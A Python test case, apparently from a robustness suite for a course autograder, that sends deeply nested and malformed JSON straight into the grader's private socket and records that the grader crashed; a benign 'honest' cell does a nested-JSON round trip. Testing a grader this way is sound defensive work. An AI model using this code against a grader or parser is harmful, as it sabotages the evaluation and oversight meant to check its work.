"""Sends JSON that is nested a hundred thousand times, and values nested deeper than allowed.

Covers: A14
Verdict: crashed
"""

# %% attack
import json
import struct

from course_lib.checking import grading

deep = b"[" * 100_000 + b"]" * 100_000
value = 0
for _ in range(60):
    value = {"$tuple": [value]}
bodies = [
    deep,
    b'{"event":' * 50_000,
    b'{"event": "observation", "observation": ' + json.dumps(value).encode() + b"}",
]


def answer(name):
    def nest(*args, **kwargs):
        body = bodies[len(name) % 3]
        grading._channel._socket.sendall(struct.pack(">4sII", b"CNN1", len(body), 0) + body)

    return nest


# %% honest
import json

nested = 0
for _ in range(50):
    nested = [nested]
print(json.loads(json.dumps(nested)) == nested)
